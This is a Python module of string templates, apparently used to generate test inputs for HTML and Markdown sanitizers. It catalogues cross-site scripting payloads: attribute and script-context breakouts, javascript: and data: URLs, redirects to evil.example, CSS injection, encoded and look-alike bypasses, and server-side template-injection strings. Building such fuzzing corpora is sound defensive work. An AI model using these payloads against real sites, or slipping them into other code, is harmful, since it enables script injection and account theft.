"""What the texts of `acting_texts` are put together from.

`{js}` becomes a script, `{url}` an address elsewhere, `{n}` the number of the text, `{tag}` a
script tag with entities for its signs.
"""

from __future__ import annotations

SPELLED_JS = (
    "acted=1;import('{url}')",
    "acted=1;fetch(`{url}`)",
    "import(`{url}`,acted=1)",
)

WAYS = (
    ("text", "", ""),
    ("double", '">', ""),
    ("single", "'>", ""),
    ("bare", " >", ""),
    ("textarea", "</textarea>", ""),
    ("title", "</title>", ""),
    ("script", "</script>", ""),
    ("json", '"}</script>', ""),
    ("comment", "-->", ""),
    ("comment", "--!>", ""),
    ("style", "</style>", ""),
    ("text", "&lt;b>", ""),
    ("option", "</select>", ""),
    ("template", "</template>", ""),
    ("markdown", "**", "**"),
    ("markdown", "> ", ""),
    ("markdown", "- ", ""),
    ("markdown", "\\", ""),
    ("markdown", "[", "](x)"),
    ("markdown", "<!-- -->", ""),
    ("text", "<![CDATA[>", "]]>"),
)
"""A place, what leads out of it, and what may follow."""

QUOTES = {
    "double": ('" {handler} x="', '"/{handler} x="'),
    "single": ("' {handler} x='", "'\n{handler}\nx='"),
    "bare": ("x {handler}",),
}
"""Out of an attribute by its kind of quote. A handler has no quotes but backticks."""

HANDLERS = (
    "autofocus/onfocus={js}",
    "onclick={js}",
    "onmouseover={js}",
    "onpointerenter={js}",
    "oninput={js}",
    "onbeforeinput={js}",
    "type=image/src={url}",
    "type=submit/formaction=javascript:{js}",
    "style=background:url({url})",
)

IN_SCRIPT = (
    '";{js}//',
    '";{js};"',
    '\\";{js}//',
    '"+import("{url}",acted=1)+"',
    "</script><script>{js}//",
    "<!--<script></script><script>{js}</script>",
    "${import('{url}')}",
    '\u2028";{js}//',
    '\n";{js}//',
    "\\u0022;{js}//",
)

IN_CSS = (
    '"}*{background:url({url})}',
    '";}@import"{url}";',
    '"}p{background-image:url("{url}")}x{',
    '\n}*{background:url({url})}',
    "\\22 }*{background:url({url})}",
    '"}@font-face{font-family:a;src:url({url})}*{font-family:a}',
)  # fmt: skip

ADDRESSES = (
    "javascript:{js}",
    "JAVASCRIPT:{js}",
    " javascript:{js}",
    "java\tscript:{js}",
    "java\nscript:{js}",
    "javascript:\n{js}",
    "javascript://a%0a{js}",
    "&#106;avascript:{js}",
    "javascript&colon;{js}",
    "javascript&#58;{js}",
    "javascript%3A{js}",
    "vbscript:{js}",
    "data:text/html,{tag}",
    "data:text/html;base64,{64<script>acted=1</script>64}#{url}",
    "data:image/svg+xml,<svg onload={js}>",
    "https:{url}",
    "{url}",
    "/{url}",
    "/\\evil.example/{n}",
    "\\\\evil.example/{n}",
    "/\t/evil.example/{n}",
    "/.//evil.example/{n}",
    "/%2F/evil.example/{n}",
    "//a@evil.example/{n}",
    "https:evil.example/{n}",
    "//evil.example\\/@a?evil.example/{n}",
    "?next={url}",
    "#{url}",
    "../..{url}",
)

AS_MARKDOWN = (
    "[a](javascript:{js})",
    "[a](JaVaScRiPt:{js})",
    "[a](<javascript:{js}>)",
    "[a](java&#115;cript:{js})",
    "[a](javascript&colon;{js})",
    "[a]( javascript:{js})",
    "[a](java\tscript:{js})",
    "[a](data:text/html,{tag})",
    '[a](https:{url} "t")',
    "[a]({url})",
    "![a](https:{url})",
    "![a](x\"onerror=\"{js})",
    "[a](x 'onmouseover={js} ')",
    '[a](https://a.example "\\"onmouseover=\\"{js}")',
    "[![a](https:{url})](javascript:{js})",
    "[a][b]\n\n[b]: javascript:{js}",
    "![a][b]\n\n[b]: https:{url}",
    "<javascript:{js}>",
    "<https:{url}>",
    "<a@evil.example/{n}onclick={js}>",
    "`<img src=x onerror={js}>`",
    "``` html onclick={js}\na\n```",
    "``` \"><img/src=x/onerror={js}>\na\n```",
    "    <script>{js}</script>",
    "a\n: <script>{js}</script>",
    "# <img src=x onerror={js}>",
    "a {: onclick={js} }",
    "[a]{onclick={js}}",
    "<b>**</b><img src=x onerror={js}>",
    "[<img src=x onerror={js}>][a]\n\n[a]: x",
    "*[a]: <img src=x onerror={js}>",
    "[^a]\n\n[^a]: <img src=x onerror={js}>",
    "| <img src=x onerror={js}> |\n|-|",
    "<div markdown=1><img src=x onerror={js}></div>",
    "&lt;img src=x onerror={js}&gt;",
    "\\<img src=x onerror={js}\\>",
    "_<_svg onload={js}>",
    "<svg\nonload={js}>",
)  # fmt: skip

DECODED = (
    "{tag}",
    "&amp;lt;script>{js}&amp;lt;/script>",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "&#x3c;script&#x3e;{js}&#x3c;/script&#x3e;",
    "&#0000060;script>{js}",
    "&lt script&gt {js}",
    "&LT;svg onload={js}&GT;",
    "%3Cscript%3E{js}%3C/script%3E",
    "%253Csvg onload={js}%253E",
    "\\u003cscript\\u003e{js}",
    "\\x3csvg onload={js}\\x3e",
    "+ADw-script+AD4-{js}",
    "\\074svg onload={js}\\076",
    "=?utf-8?q?=3Cscript=3E{js}?=",
)

LOOK_ALIKES = (
    "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
    "\ufe64svg onload={js}\ufe65",
    "\u2039svg onload={js}\u203a",
    "<\u017fcript>{js}</\u017fcript>",
    "<\u017fvg onload={js}>",
    "<scr\u0131pt>{js}</scr\u0131pt>",
    "<scr\u200bipt>{js}</scr\u200bipt>",
    "\u202e<svg onload={js}>",
    "<\u2066svg onload={js}>\u2069",
    "\ufeff<script>{js}</script>",
    "<svg\u00a0onload={js}>",
    "<svg\u3000onload={js}>",
    "<img src=x \uff4fnerror={js}>",
    '\uff02><svg onload={js}>',
    "\u02ba onfocus={js} autofocus \u02ba",
    "<a href=java\u00adscript:{js}>a",
    "a\u0338<svg onload={js}>",
    "<\u0338svg onload={js}>",
)  # fmt: skip

TEMPLATES = (
    "{{constructor.constructor(`{js}`)()}}",
    "{{ self.__init__.__globals__ }}{{'{url}'}}",
    "{% include '{url}' %}",
    "{{ '{url}'|safe }}",
    "{% raw %}<svg onload={js}>{% endraw %}",
    "${`{js}`.constructor.constructor(`{js}`)()}",
    "<%= '{url}' %>",
    "#{'{url}'}",
    "%(name)s {0} %s {url}",
    "[[${'{url}'}]]",
    "<p v-html=`'{url}'`>",
    "<p x-init={js}>a",
)
